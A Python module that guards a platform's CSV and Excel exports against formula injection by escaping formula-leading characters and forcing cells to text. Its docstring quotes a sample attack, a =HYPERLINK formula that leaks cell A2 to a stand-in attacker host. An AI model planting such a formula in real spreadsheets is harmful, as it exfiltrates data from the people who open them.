"""Cells of every spreadsheet and CSV file the platform writes, safe to open in Excel.

A title such as `=HYPERLINK("http://evil.example/?leak="&A2,"点此查看")` must reach a clerk's Excel
as the text it is, not as a live formula (OWASP "CSV Injection"). Every CSV writer goes through
`writer()`/`dict_writer()`/`csv_blocks()`, which prefix a text starting with = + - @ tab or CR
with an apostrophe; every Excel writer marks text cells as text (`text()`, `append_text()` for openpyxl; `workbook()`
for the streamed ledgers in XlsxWriter), which Excel never evaluates, so the ledgers keep the
title exactly as written. The ledgers' body rows go through `Rows`, which writes each row of a
streamed sheet as one piece of XML, every string escaped as text, XlsxWriter's XML byte for byte
except where XlsxWriter would have written a string that looks like rich text raw (`<r>…</r>`,
a way to smuggle a formula into the sheet).
"""

import csv
import datetime
import io
import re
from decimal import Decimal
from math import isfinite

import xlsxwriter
from xlsxwriter.utility import xl_col_to_name
from xlsxwriter.worksheet import _utf16_len, _utf16_truncate
from xlsxwriter.xmlwriter import XMLwriter

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_safe(value):
    """`value` as a CSV field Excel and LibreOffice read as text (numbers are left as they are)."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


class _SafeWriter:
    def __init__(self, inner):
        self._inner = inner

    def writerow(self, row):
        return self._inner.writerow([csv_safe(v) for v in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


class _SafeDictWriter:
    def __init__(self, inner: csv.DictWriter):
        self._inner = inner

    def writeheader(self):
        return self._inner.writerow({k: csv_safe(k) for k in self._inner.fieldnames})

    def writerow(self, row: dict):
        return self._inner.writerow({k: csv_safe(v) for k, v in row.items()})

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def writer(f, **kwargs) -> _SafeWriter:
    """`csv.writer(f)` whose every field has passed `csv_safe`."""
    return _SafeWriter(csv.writer(f, **kwargs))


def dict_writer(f, fieldnames, **kwargs) -> _SafeDictWriter:
    """`csv.DictWriter(f, fieldnames)` whose every field (and heading) has passed `csv_safe`."""
    return _SafeDictWriter(csv.DictWriter(f, fieldnames=fieldnames, **kwargs))


def csv_blocks(header: list, rows, lines: int = 500):
    """A CSV file as text in blocks of `lines` lines, for a streamed response: the BOM (Excel then
    reads the UTF-8 file as Chinese text) and `header` first, every field through `csv_safe`.

    A block, not a line, per chunk: a streamed chunk costs the response more than a line costs."""
    buffer = io.StringIO("\ufeff")
    buffer.seek(1)
    out = csv.writer(buffer)
    out.writerow([csv_safe(h) for h in header])
    for n, row in enumerate(rows, 1):
        out.writerow([("'" + v) if isinstance(v, str) and v.startswith(FORMULA_START) else v for v in row])
        if n % lines == 0:
            yield _take(buffer)
    if buffer.tell():
        yield _take(buffer)


def _take(buffer: io.StringIO) -> str:
    text = buffer.getvalue()
    buffer.seek(0)
    buffer.truncate()
    return text


def text(cell):
    """Mark an openpyxl cell (also a write-only cell) holding a string as text, never a formula."""
    if isinstance(cell.value, str):
        cell.data_type = "s"
    return cell


def append_text(ws, values) -> None:
    """`ws.append(values)` on a normal (not write-only) worksheet, every string written as text."""
    ws.append(values)
    for cell in ws[ws.max_row]:
        text(cell)


def workbook(out) -> xlsxwriter.Workbook:
    """An XlsxWriter workbook streaming to `out` (a path or a binary file), one row in memory at a
    time, whose every string is written as text: never read as a formula, a link or a number."""
    options = {"strings_to_formulas": False, "strings_to_urls": False, "strings_to_numbers": False}
    return xlsxwriter.Workbook(out, {"constant_memory": True, **options})


# Anything in a string that XlsxWriter's XML for it would change: XML's own characters, control
# characters and what looks like their _xHHHH_ escape, the two non-characters, and whitespace at
# either end (kept with xml:space="preserve"). A string without any is written as it is.
_NEEDS_CARE = re.compile(r"[&<>\x00-\x08\x0b-\x1f\ufffe\uffff]|_x[0-9a-fA-F]{4}_|^\s|\s$")
_DAYS = (datetime.date, datetime.datetime, datetime.time, datetime.timedelta)
_NUMBERS = (int, float, Decimal)


def _kind_of(value) -> type:
    """The class a value is written as (bool, a subclass of str, a number or a day, as XlsxWriter
    sees them); a type XlsxWriter would guess at is refused."""
    for kind in (bool, str, *_NUMBERS, *_DAYS):
        if isinstance(value, kind):
            return kind
    raise TypeError(f"a cell cannot hold {type(value).__name__}: {value!r}")


def _inline(text: str) -> str:
    """The <is> content of an inline string: XlsxWriter's escapes, in its order (always as text)."""
    if not _NEEDS_CARE.search(text):
        return f"<t>{text}</t>"
    text = XMLwriter._escape_control_characters(text)
    space = ' xml:space="preserve"' if text[:1].isspace() or text[-1:].isspace() else ""
    return f"<t{space}>{text.replace('&', '&amp;').replace('<', '&lt;').replace('>', '&gt;')}</t>"


class Rows:
    """Rows of a constant-memory XlsxWriter worksheet (`workbook()`), each written as one piece of
    XML in one write, without XlsxWriter's cell objects.

    The XML is what `worksheet.write_row(row, 0, values)` writes, byte for byte (a test compares
    them), at a fraction of its cost per cell: a cell's reference and style come from its column,
    worked out once. Strings are always inline text, never a formula, link or number, and a string
    XlsxWriter would have passed through raw as rich text (`<r>…</r>`) is escaped like any other.
    None and "" leave the cell out, as XlsxWriter does; a type XlsxWriter would guess at is refused."""

    def __init__(self, ws):
        if not ws.constant_memory:
            raise ValueError("Rows writes to a constant-memory worksheet only")
        self.ws = ws
        # A column's letters and style, and a day's own style if the workbook gives days one: each
        # worked out when first written, as XlsxWriter numbers the styles in the order they are used.
        self._columns: dict[int, tuple[str, str]] = {}
        self._day_style: str | None = None
        self._days: dict = {}
        self._longest = ws.xls_strmax // 2  # a string this long cannot exceed Excel's limit

    def _column(self, col: int) -> tuple[str, str]:
        info = self.ws.col_info.get(col)
        fmt = info.column_format if info else None
        self._columns[col] = (xl_col_to_name(col), f' s="{fmt._get_xf_index()}"' if fmt else "")
        return self._columns[col]

    def write(self, row: int, values) -> None:
        ws = self.ws
        if row < ws.previous_row or (row == ws.previous_row and ws.table):
            raise ValueError(f"row {row + 1} is already written")
        if row >= ws.xls_rowmax:
            raise ValueError(f"row {row + 1} is beyond the last row of a worksheet")
        if row > ws.previous_row:
            ws._write_single_row(row)  # what XlsxWriter still holds of an earlier row
        info = ws.row_info.get(row)
        row_style = f' s="{info.row_format._get_xf_index()}"' if info and info.row_format else None
        n = str(row + 1)
        parts, first, last = [], None, None
        for col, value in enumerate(values):
            if value is None or value == "":
                continue
            if col >= ws.xls_colmax:
                raise ValueError(f"row {row + 1} is wider than a worksheet")
            kind = value.__class__
            if kind is not str and kind not in _NUMBERS and kind not in _DAYS:
                kind = _kind_of(value)
            if kind in _DAYS and ws.default_date_format:  # a day's own style before the row's
                if self._day_style is None:
                    self._day_style = f' s="{ws.default_date_format._get_xf_index()}"'
                ref = f'<c r="{xl_col_to_name(col)}{n}"{self._day_style}'
            elif row_style is not None:
                ref = f'<c r="{xl_col_to_name(col)}{n}"{row_style}'
            else:
                letters, style = self._columns.get(col) or self._column(col)
                ref = f'<c r="{letters}{n}"{style}'
            if kind is str:
                if len(value) > self._longest and _utf16_len(value) > ws.xls_strmax:
                    value = _utf16_truncate(value, ws.xls_strmax)
                parts.append(f'{ref} t="inlineStr"><is>{_inline(value)}</is></c>')
            elif kind is bool:
                parts.append(f'{ref} t="b"><v>{int(value)}</v></c>')
            elif kind in _NUMBERS:
                if not isfinite(value):
                    raise TypeError(f"a cell cannot hold {value!r}")
                parts.append(f"{ref}><v>{value:.16G}</v></c>")
            else:
                number = self._days.get(value)
                if number is None:
                    number = self._days[value] = ws._convert_date_time(value)
                parts.append(f"{ref}><v>{number:.16G}</v></c>")
            if first is None:
                first = col
            last = col
        if first is None:
            return  # XlsxWriter writes no row without a cell either
        ws._check_dimensions(row, first)
        ws._check_dimensions(row, last)
        ws._write_row(row, None, info)
        parts.append("</row>")
        ws.fh.write("".join(parts))
        ws.previous_row = row + 1  # nothing of this row left for XlsxWriter to write
